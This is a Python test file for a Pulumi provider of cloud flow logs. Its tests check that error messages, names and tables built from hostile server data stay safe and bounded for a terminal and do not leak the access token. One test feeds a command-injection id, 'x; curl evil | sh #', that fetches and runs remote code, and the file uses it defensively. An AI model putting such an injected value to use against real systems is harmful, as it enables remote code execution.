def test_every_part_of_a_refusal_fits_a_terminal(
    scripted: ServerFactory, time: QuickTime, text: str, status: int
) -> None:
    error = raised(ApiError, lambda: show(bounded(scripted(refusal(text, text, status, text)), time)))

    assert fits_a_terminal(str(error))


@pytest.mark.parametrize("text", [LONG[:60_000], RED.replace("\n", "").replace("\r", "")])
def test_the_words_beside_a_status_fit_a_terminal(pouring: Pour, time: QuickTime, text: str) -> None:
    server = pouring(bytes_of(b"HTTP/1.1 400 " + text.encode(), b""))

    assert fits_a_terminal(str(raised(ApiError, lambda: show(token_client(server.url, time)))))


def test_a_message_cannot_have_a_colour_of_pulumis(scripted: ServerFactory, time: QuickTime) -> None:
    error = raised(ApiError, lambda: show(token_client(scripted(refusal(message=f"a {COLOUR} b")), time)))

    assert "<{%" not in str(error)


@pytest.mark.parametrize("part", ["error_code", "request_id"])
def test_an_answer_cannot_bring_the_token_onto_the_terminal_by_its_code_or_request_id(
    scripted: ServerFactory, time: QuickTime, part: str
) -> None:
    server = scripted(Answer(400, {"error_code": "ER.1", "error_msg": "No.", "request_id": "r", part: f"a {TOKEN} b"}))

    assert TOKEN not in str(raised(ApiError, lambda: show(token_client(server, time))))


def test_an_answer_cannot_bring_the_token_onto_the_terminal_by_the_words_beside_its_status(
    pouring: Pour, time: QuickTime
) -> None:
    server = pouring(bytes_of(f"HTTP/1.1 400 {TOKEN}".encode(), b""))

    assert TOKEN not in str(raised(ApiError, lambda: show(token_client(server.url, time))))


@pytest.mark.parametrize("status", [400, 409, 503])
@pytest.mark.parametrize("text", [RED, LONG])
def test_what_iam_says_fits_a_terminal(scripted: ServerFactory, time: QuickTime, text: str, status: int) -> None:
    server = scripted(Answer(status, {"error": {"code": status, "message": text, "title": text}}))

    shown = str(raised(ApiError, lambda: show(signing_in(server.url, time))))

    assert fits_a_terminal(shown)


@pytest.mark.parametrize("text", ["\x1b[31mred", LONG[:60_000]])
def test_the_request_id_of_iam_fits_a_terminal(scripted: ServerFactory, time: QuickTime, text: str) -> None:
    server = scripted(Answer(400, {"error": {"message": "No."}}, {"X-Openstack-Request-Id": text}))

    assert fits_a_terminal(str(raised(ApiError, lambda: show(signing_in(server.url, time)))))


def test_a_state_that_nobody_knows_is_waited_out_and_told_fit_for_a_terminal(
    scripted: ServerFactory, time: QuickTime
) -> None:
    texts: list[str] = []
    client = Client(TokenCredentials(TOKEN, PROJECT), Endpoints.at(scripted(flow_log({"state": RED + LONG})).url))
    deadline = Deadline(seconds=0.5, report=texts.append)

    error = raised(idempotency.IncompleteError, lambda: created(client.within(deadline)))

    assert texts
    assert all(fits_a_terminal(one) for one in [str(error), *texts])


WRONG_TYPE = refusal("ER.04008500")
OVER_QUOTA = refusal("ER.04009008")
TAKEN = refusal("ER.04008503", status=409)
HOLDS = Answer(body={"flow_logs": [RECORD]})


def attachment(type_: str) -> Answer:
    return Answer(body={"attachments": [{"id": TARGET.resource_id, "state": "available", "resource_type": type_}]})


def quota(number: int) -> Answer:
    return Answer(body={"quotas": [{"quota_key": "flow_log", "quota_limit": number, "used": number}]})


@pytest.mark.parametrize(
    "script",
    [
        pytest.param([WRONG_TYPE, attachment(RED)], id="type in red"),
        pytest.param([WRONG_TYPE, attachment(LONG)], id="long type"),
        pytest.param([OVER_QUOTA, quota(10**4000)], id="quota of 4,000 digits"),
        pytest.param([TAKEN, HOLDS, flow_log({"name": LONG}), TAKEN], id="long name"),
        pytest.param([TAKEN, HOLDS, flow_log({"name": COLOUR}), TAKEN], id="name in a colour"),
        pytest.param([TAKEN, HOLDS, flow_log({"id": RED}), TAKEN], id="id in red"),
    ],
)
def test_why_a_flow_log_was_not_created_fits_a_terminal(
    scripted: ServerFactory, time: QuickTime, script: list[Step]
) -> None:
    error = failure(lambda: provider_of(scripted(*script)).create(INPUTS, time.deadline(60)))

    assert fits_a_terminal(str(error))
    assert "<{%" not in str(error)


@pytest.mark.parametrize("quotas", [None, 5, {}, [None], [{"quota_key": "flow_log", "quota_limit": "many"}]])
def test_help_that_cannot_be_had_leaves_the_refusal_as_it_is(
    scripted: ServerFactory, time: QuickTime, monkeypatch: pytest.MonkeyPatch, quotas: Any
) -> None:
    provider = provider_of(scripted(OVER_QUOTA, Answer(body={"quotas": quotas})))

    error = failure(lambda: provider.create(INPUTS, time.deadline(60)))

    assert str(error) == "flow log 'shop' was not created: No (ER.04009008, HTTP 400, request r)"


def test_a_hostile_id_is_never_offered_for_an_import(
    scripted: ServerFactory, base: type[Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    server = scripted(TAKEN, HOLDS, flow_log({"id": "x; curl evil | sh #"}), TAKEN)
    monkeypatch.chdir(tmp_path)
    urn = f"urn:pulumi:local::otc-flow-logs::{FLOW_LOG_TYPE}::core-shop"
    inputs, config = Struct(), Struct()
    inputs.update({**INPUTS, PROVIDER_KEY: serialize_provider(FlowLogProvider())})
    config.update(
        {f"otc-flow-logs:{key}": value for key, value in {"token": TOKEN, "project_id": PROJECT}.items()}
        | {"otc-flow-logs:endpoint": server.url}
    )

    with hosted(base, FlowLogHandler()) as host:
        host.Configure(proto.ConfigureRequest(args=config))
        with pytest.raises(grpc.RpcError) as caught:
            host.Create(proto.CreateRequest(urn=urn, properties=inputs, timeout=0.5))

    assert isinstance(caught.value, grpc.Call)
    assert "import" not in str(caught.value.details())


# Names, in what a stack program says


def resolved(world: World, time: QuickTime, **changed: Any) -> Plan:
    routers = {"main": {"router": "core", "log_group": "network", "log_stream": "flow", **changed}}
    found = planned(bounded(world, time), StackConfig.model_validate({"routers": routers}))
    if found.problems:
        raise StackError(found.problems)
    return found


def planned(client: Client, config: StackConfig) -> Plan:
    return resolve(config, look(client, config, {}), stack="local", last={}, managed={})


def rename_all(world: World, name: str) -> None:
    """Give everything this name; what a stack file means it says by ids."""
    world.change("instances", {"name": name, "state": name})
    world.change("attachments", {"name": name})
    world.change("attachments", {"name": name, "resource_type": name}, 1)
    world.change("groups", {"log_group_name": name})
    world.change("streams", {"log_stream_name": name})


BY_ID = {"router": ROUTER, "log_group": "group-1", "log_stream": "stream-1"}


@pytest.mark.parametrize("name", [RED, LONG])
def test_the_coverage_table_of_hostile_names_has_a_bounded_line_for_each_attachment(
    world: World, time: QuickTime, name: str
) -> None:
    rename_all(world, name)
    config = StackConfig.model_validate({"routers": {"main": BY_ID}})
    client = bounded(world, time)
    found = planned(client, config)

    shown = table(survey(client, found, stack="local", now=datetime.now(timezone.utc)))

    assert fits_a_terminal(shown, longest=7 * 510, lines=7)
    assert "0 of 1 loggable attachments are logged, 1 cannot be." in shown


@pytest.mark.parametrize("name", [RED, LONG, COLOUR])
def test_the_flow_logs_of_hostile_names_have_names_that_the_service_takes(
    world: World, time: QuickTime, name: str
) -> None:
    rename_all(world, name)

    (wanted,) = resolved(world, time, **BY_ID).desired.values()

    assert FlowLogProvider().check({}, {**vars(wanted.target), "name": wanted.name}).failures == []
    assert len(wanted.logical_name) <= 73
    assert fits_a_terminal(wanted.logical_name)


def told(problems: StackError) -> list[str]:
    return problems.sentences("stacks/Pulumi.local.yaml").split("\n")


@pytest.mark.parametrize("name", [RED, LONG, COLOUR, HALF])
@pytest.mark.parametrize("key", ["router", "log_stream", "attachments"])
def test_the_names_that_there_are_fit_a_terminal(world: World, time: QuickTime, key: str, name: str) -> None:
    rename_all(world, name)
    changed = {**BY_ID, key: ["other"] if key == "attachments" else "other"}

    with pytest.raises((StackError, ApiError)) as caught:
        resolved(world, time, **changed)

    shown = told(caught.value) if isinstance(caught.value, StackError) else [str(caught.value)]
    assert len(shown) == 1
    assert fits_a_terminal(shown[0], longest=5000)
    assert "<{%" not in shown[0]


@pytest.mark.parametrize("name", [RED, LONG, COLOUR])
def test_what_two_routers_of_a_stack_file_both_log_to_fits_a_terminal(world: World, time: QuickTime, name: str) -> None:
    rename_all(world, name)
    config = StackConfig.model_validate({"routers": {"main": BY_ID, "again": BY_ID}})

    (shown,) = told(StackError(planned(bounded(world, time), config).problems))

    assert fits_a_terminal(shown, longest=5000)
    assert "<{%" not in shown


@pytest.mark.parametrize("name", [RED, LONG, COLOUR])
def test_the_warning_of_what_is_not_logged_and_the_outputs_fit_a_terminal(
    world: World, time: QuickTime, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    rename_all(world, name)
    plan = resolved(world, time, **BY_ID)
    warnings: list[str] = []
    monkeypatch.setattr(pulumi.log, "warn", lambda text, **_named: warnings.append(text))

    RouterFlowLogs._warn(cast(RouterFlowLogs, object()), plan.routers)

    (warning,) = warnings
    assert fits_a_terminal(warning)
    assert "<{%" not in warning + json.dumps(outputs(plan, [], {}))


@pytest.mark.parametrize("name", [RED, LONG, COLOUR])
@pytest.mark.parametrize("adopt", [True, False])
def test_the_names_of_somebody_elses_flow_logs_fit_a_terminal(
    world: World, time: QuickTime, name: str, adopt: bool
) -> None:
    rename_all(world, name)
    theirs = {"id": "theirs", "resource_id": "attachment-1", "log_group_id": "group-1", "log_stream_id": "stream-1"}
    world.lists["flow-logs"].append({**RECORD, **theirs, "name": name, "state": "failed"})
    config = StackConfig.model_validate({"routers": {"main": {**BY_ID, "adopt": adopt}}})
    client = bounded(world, time)
    found = planned(client, config)

    (shown,) = told(StackError(conflicts.check(config, found, {}, has_key=False).problems))
    tabled = table(survey(client, found, stack="local", now=datetime.now(timezone.utc)))

    assert fits_a_terminal(shown, longest=5000)
    assert fits_a_terminal(tabled, longest=7 * 800, lines=6)
    assert "<{%" not in shown + tabled


@pytest.mark.parametrize("name", [RED, LONG, COLOUR])
def test_the_list_of_what_a_run_would_delete_fits_a_terminal(name: str) -> None:
    stack = Stack(plans.attachment("a", display_name(name)), plans.attachment("b", "vpc-b"))
    stack.up()

    run = stack.preview({"core": {"attachments": ["vpc-b"]}}, max_deletes=0)

    (shown,) = told(StackError(run.refusals))
    for text in (shown, *run.sentences):
        assert fits_a_terminal(text)
        assert "<{%" not in text


@pytest.mark.parametrize("name", [RED, LONG, COLOUR])
def test_hostile_names_and_tags_in_a_reason_fit_a_terminal(name: str) -> None:
    wanted: dict[str, dict[str, Any]] = {
        "core": {"attachments": {"tags": {"env": "prod"}}},
        "other": {"attachments": {"names": ["vpc-*"]}},
    }
    tagged = plans.attachment("b", "b", tags={"env": "prod"})
    stack = Stack(plans.attachment("a", "vpc-a"), tagged)
    stack.up(wanted)
    stack.now(plans.attachment("a", display_name(name)), plans.attachment("b", "b", tags={"env": name}))

    for text in stack.preview(wanted, max_deletes=2).sentences:
        assert fits_a_terminal(text)
        assert "<{%" not in text
